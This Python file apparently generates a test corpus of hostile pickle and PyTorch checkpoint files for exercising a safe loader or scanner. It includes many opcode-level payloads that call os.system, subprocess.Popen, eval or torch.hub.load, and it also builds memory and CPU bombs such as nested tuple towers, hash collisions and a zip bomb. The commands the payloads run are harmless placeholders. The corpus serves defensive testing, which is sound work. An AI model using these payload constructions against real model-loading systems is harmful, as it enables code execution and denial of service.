"""A corpus of hostile pickles."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from typing import Any

import torch

COMMAND = "echo executed > /dev/null"


class Call:
    """Pickles as a call of a function that is found by its name."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.arguments


def text(value: str) -> bytes:
    """An instruction that pushes text."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def named(module: str, name: str) -> bytes:
    """An instruction that pushes what has a name."""
    return f"c{module}\n{name}\n".encode()


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """Instructions for a call, without the end."""
    return named(module, name) + b"(" + b"".join(arguments) + b"tR"


def memoized(value: bytes, index: int) -> bytes:
    return value + b"q" + bytes([index])


def nested_tuples(depth: int) -> bytes:
    """A tuple that holds the one before twice, 2^depth values in all: its hash and its text take for ever."""
    steps = b"".join(memoized(b"\x86", i + 1)[:1] + b"q" + bytes([i + 1]) + b"h" + bytes([i + 1]) for i in range(depth))
    return b"K\x01" + b"K\x01" + steps + b"\x86"


def in_zip(data: bytes, compress: bool = False, extra: dict[str, bytes] | None = None) -> bytes:
    """A pickle as ``data.pkl`` of PyTorch's format."""
    file = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(file, "w", method) as archive:
        archive.writestr("archive/data.pkl", data)
        for name, raw in (extra or {}).items():
            archive.writestr(f"archive/{name}", raw)
    return file.getvalue()


def full_directory(num: int) -> bytes:
    """A zip archive that lists entries without having them."""
    entry = b"PK\x01\x02" + struct.pack("<4B4H3I5H2I", 20, 0, 20, 0, *[0] * 7, 1, *[0] * 6) + b"x"
    end = b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, 0xFFFF, 0xFFFF, num * len(entry), 30, 0)
    return b"PK\x03\x04" + bytes(26) + entry * num + end


def storage_reference(numel: int, cls: str = "FloatStorage", key: str = "0") -> bytes:
    """Instructions that push a storage of PyTorch's zip format."""
    return (
        b"(" + text("storage") + named("torch", cls) + text(key) + text("cpu") + b"J" + struct.pack("<i", numel) + b"tQ"
    )


def calls() -> dict[str, bytes]:
    """Files that want something to be called."""
    import builtins
    import os
    import subprocess

    system = Call(os.system, COMMAND)
    found = {f"os.system, protocol {p}": pickle.dumps(system, protocol=p) for p in range(6)}
    objects: dict[str, Any] = {
        "builtins.eval": Call(eval, "__import__('os').getpid()"),
        "builtins.exec": Call(exec, "import os"),
        "builtins.__import__": Call(builtins.__import__, "antigravity"),
        "builtins.getattr": Call(getattr, "text", "upper"),
        "subprocess.Popen": Call(subprocess.Popen, ["true"]),
        "nested in a dict": {"G_ema": OrderedDict(a=[system]), "g": {"x": (1, system)}},
        "nested reduce": Call(OrderedDict, [("a", Call(getattr, Call(__import__, "os"), "system"))]),
        "torch.load": Call(torch.load, "/dev/null"),
        "torch.hub.load": Call(torch.hub.load, "someone/something", "model"),
        "storage with a pickle inside": Call(torch.storage._load_from_bytes, pickle.dumps(system)),
        "legacy file with a call inside": Call(
            torch.storage._load_from_bytes,
            pickle.dumps(0x1950A86A20F9469CFC6C) + pickle.dumps(1001) + pickle.dumps({}) + pickle.dumps(system),
        ),
    }
    found |= {name: pickle.dumps(value) for name, value in objects.items()}
    posix = named("posix", "system")
    found |= {
        "text protocol": b"cos\nsystem\n(S'true'\ntR.",
        "stack_global": b"\x80\x04" + text("os") + text("system") + b"\x93(" + text("true") + b"tR.",
        "newobj": b"\x80\x02" + named("subprocess", "Popen") + b"(" + text("true") + b"t\x81.",
        "newobj_ex": b"\x80\x04" + named("subprocess", "Popen") + b"(" + text("true") + b"t}\x92.",
        "newobj without arguments": b"\x80\x02" + named("subprocess", "Popen") + b")\x81.",
        "obj": b"(" + posix + text("true") + b"o.",
        "inst": b"(" + text("true") + b"iposix\nsystem\n.",
        "build": b"\x80\x02" + named("a", "B") + b")\x81}" + text("__setstate__") + posix + b"sb"
        + text("true") + b"b.",
        "reconstructor": call("copyreg", "_reconstructor", named("subprocess", "Popen"), posix, b"N") + b".",
        "import side effect": named("antigravity", "fly") + b".",
        "name in a dict": b"\x80\x02}" + text("G_ema") + named("this", "s") + b"s.",
        "getattr chain": call(
            "builtins", "getattr", call("builtins", "getattr", named("torch", "nn"), text("modules")), text("os")
        ) + b".",
        "attrgetter": call("operator", "attrgetter", text("system")) + b".",
        "partial": call("functools", "partial", posix, text("true")) + b".",
        "code object": call("types", "FunctionType", call("marshal", "loads", b"C\x01x"), b"}") + b".",
        "numpy.load": call("numpy", "load", text("/dev/null"), b"N", b"\x88") + b".",
        "runstring": call("numpy.testing._private.utils", "runstring", text("1"), b"}") + b".",
        "object array": call("numpy", "dtype", text("O8")) + b".",
        "array subclass": call("numpy.core.multiarray", "_reconstruct", posix, b"(K\x00t", b"C\x01b") + b".",
        "parameter of a call": call("torch._utils", "_rebuild_parameter", call("os", "getpid"), b"\x88", b"}") + b".",
        "tensor of no storage": call("torch._utils", "_rebuild_tensor_v2", posix, b"K\x00", b")", b")", b"\x89", b"}")
        + b".",
        "rebuild from type": call("torch._tensor", "_rebuild_from_type_v2", posix, posix, b"(" + text("true")
        + b"t", b"}") + b".",
        "script module": call("torch.jit._serialization", "load", text("/dev/null")) + b".",
        "persistent id": b"\x80\x02" + posix + b"Q.",
        "persistent text": b"Pos.system\n.",
        "extension": b"\x80\x02\x82\x01.",
        "hash of a class": b"\x80\x02}" + posix + b"K\x01s.",
    }  # fmt: skip
    found["call in a zip"] = in_zip(pickle.dumps(system))
    return found


def bombs() -> dict[str, bytes]:
    """Files that want time or memory without end."""
    tower, ints = nested_tuples(60), b"".join(b"\x8a\x10" + (k * (2**61 - 1)).to_bytes(16, "little") + b"N"
                                             for k in range(20_000))  # fmt: skip
    encode = named("_codecs", "encode")
    big = memoized(text("x" * 1_000_000), 0)
    return {
        "tower as a key": b"\x80\x02}" + tower + b"K\x01s.",
        "tower in a set": b"\x80\x04\x8f(" + tower + b"\x90.",
        "tower as a type": call("numpy", "dtype", tower) + b".",
        "tower as an array's class": call("numpy.core.multiarray", "_reconstruct", tower, b")", b"N") + b".",
        "tower as a size": call("torch", "Size", tower) + b".",
        "tower as a shape": call("torch._utils", "_rebuild_tensor_v2", tower, tower, tower, tower) + b".",
        "tower as an argument": call("os", "system", tower) + b".",
        "tower as a base": call("copyreg", "_reconstructor", named("a", "b"), tower, b"N") + b".",
        "tower as a class name": call("torch_utils.persistence", "_reconstruct_persistent_obj", b"}"
        + text("class_name") + tower + b"s") + b".",
        "tower as a network": b"\x80\x02}" + text("G_ema") + tower + b"s.",
        "small colliding keys": b"\x80\x02}(" + b"".join(b"J" + struct.pack("<i", k << 16) + b"N"
        for k in range(30_000)) + b"u.",
        "devices again and again": b"\x80\x02" + memoized(text("x" * 256), 0) + b"0(" + (named("torch", "device") + b"("
        + b"h\x00" * 60 + b"tR") * 6000 + b"l.",
        "size of a long list": b"\x80\x02" + call("torch", "Size", b"](" + b"K\x01" * 100_000 + b"e") + b".",
        "storage of a tower of numbers": in_zip(b"\x80\x02(" + text("storage") + named("torch", "FloatStorage")
        + text("0") + text("cpu") + tower + b"tQ.", extra={"data/0": bytes(16)}),
        "colliding keys": b"\x80\x02}(" + ints + b"u.",
        "long text of a number": b"I" + b"9" * 2_000_000 + b"\n.",
        "long number": b"\x80\x02\x8b" + struct.pack("<i", 5_000_000) + b"\x7f" * 5_000_000 + b".",
        "announced bytes": b"\x80\x04\x8e" + struct.pack("<Q", 1 << 60) + b"x.",
        "announced text": b"\x80\x04\x8d" + struct.pack("<Q", (1 << 63) - 1) + b"x.",
        "announced frame": b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"N.",
        "far memo": b"\x80\x02Nr" + struct.pack("<I", 0xFFFFFFFF) + b".",
        "sets without end": b"\x80\x04(" + b"\x8f" * 3_000_000 + b"l.",
        "marks without end": b"(" * 2_000_000 + b".",
        "tuples inside each other": b"\x80\x02N" + b"\x85" * 900_000 + b".",
        "lists inside each other": b"\x80\x02" + b"]" * 400_000 + b"a" * 399_999 + b".",
        "a list in itself": b"\x80\x02]q\x00h\x00a.",
        "bytes again and again": b"\x80\x02" + big + b"0(" + (encode + b"h\x00" + text("latin1") + b"\x86R") * 3000
        + b"l.",
        "sets again and again": b"\x80\x02](" + b"K\x01" * 100_000 + b"eq\x000("
        + (named("builtins", "set") + b"h\x00\x85R") * 20_000 + b"l.",
        "huge storage": pickle.dumps(0x1950A86A20F9469CFC6C) + pickle.dumps(1001) + pickle.dumps({}) + b"\x80\x02("
        + text("storage") + named("torch", "FloatStorage") + text("0") + text("cpu") + b"\x8a\x07"
        + (1 << 48).to_bytes(7, "little") + b"NtQ." + pickle.dumps(["0"]),
        "huge view": in_zip(b"\x80\x02" + call("torch._utils", "_rebuild_tensor_v2", storage_reference(4), b"K\x00",
        b"J\xff\xff\xff\x7fJ\xff\xff\xff\x7f\x86", b"K\x00K\x00\x86", b"\x89", b"}") + b".",
        extra={"data/0": bytes(16)}),
        "view out of bounds": in_zip(b"\x80\x02" + call("torch._utils", "_rebuild_tensor_v2", storage_reference(4),
        b"K\x03", b"K\x02\x85", b"K\x01\x85", b"\x89", b"}") + b".", extra={"data/0": bytes(16)}),
        "zip bomb": in_zip(pickle.dumps(b"x" * 50_000_000), compress=True),
        "storage of another length": in_zip(b"\x80\x02" + storage_reference(1_000_000) + b".",
        extra={"data/0": bytes(16)}),
        "the same view a thousand times": in_zip(b"\x80\x02" + memoized(storage_reference(1_000_000), 0) + b"0(" + call(
        "torch._utils", "_rebuild_tensor_v2", b"h\x00", b"K\x00", b"J\x40\x42\x0f\x00\x85", b"K\x01\x85", b"\x89",
        b"}") * 1000 + b"l.", extra={"data/0": bytes(4_000_000)}),
        "tower as the name of a storage": pickle.dumps(0x1950A86A20F9469CFC6C) + pickle.dumps(1001) + pickle.dumps({})
        + pickle.dumps([]) + b"\x80\x02]" + tower + b"a.",
        "a long name again and again": b"\x80\x02" + memoized(named("m" * 1_000_000, "N"), 0) + b"("
        + b"h\x00)\x81" * 100_000 + b"l.",
        "long names from text": b"\x80\x04" + memoized(text("m" * 1_000_000), 0) + b"("
        + b"h\x00h\x00\x93)\x81" * 80_000 + b"l.",
        "long name of an instance": b"(i" + b"m" * 1_000_000 + b"\nN\n.",
        "a directory of entries": full_directory(1_000_000),
        "a name that is no text": in_zip(b"N.", extra={"\u00e9": b""}).replace("\u00e9".encode(), b"\xff\xff"),
    }  # fmt: skip


def truncations(good: bytes, step: int) -> dict[str, bytes]:
    """A good file, cut off at every ``step``-th byte."""
    return {f"cut at {i:08d}": good[:i] for i in range(0, len(good), step)}


def mutations(good: bytes, num: int, random: Callable[[int], int]) -> dict[str, bytes]:
    """A good file with one to eight bytes changed, mostly where its instructions are."""
    found = {}
    for i in range(num):
        data = bytearray(good)
        for _ in range(1 + random(8)):
            data[random(len(data))] = random(256)
        found[f"mutation {i:05d}"] = bytes(data)
    return found
